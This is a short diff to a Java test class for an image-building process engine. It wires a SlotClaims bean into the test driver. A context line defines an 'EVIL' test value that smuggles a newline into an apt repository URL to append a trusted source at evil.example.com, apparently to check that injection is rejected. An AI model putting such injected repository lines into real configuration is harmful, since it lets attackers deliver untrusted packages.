@@ -36,6 +36,8 @@ class EditedVariablesProcessTest {
   static final String EVIL = "http://127.0.0.1:9/debian\ndeb [trusted=yes] http://evil.example.com/ bookworm main";
 
   @Autowired ProcessEngine engine;
+
+  @Autowired org.imagefoundry.engine.SlotClaims slotClaims;
   @Autowired BuildService builds;
   @Autowired FakeHost host;
   @Autowired FoundrySettings settings;
@@ -47,7 +49,7 @@ class EditedVariablesProcessTest {
   void setUp() {
     init(engine);
     host.reset();
-    driver = new ProcessDriver(engine);
+    driver = new ProcessDriver(engine, slotClaims);
     Requests.clean(settings);
   }
 
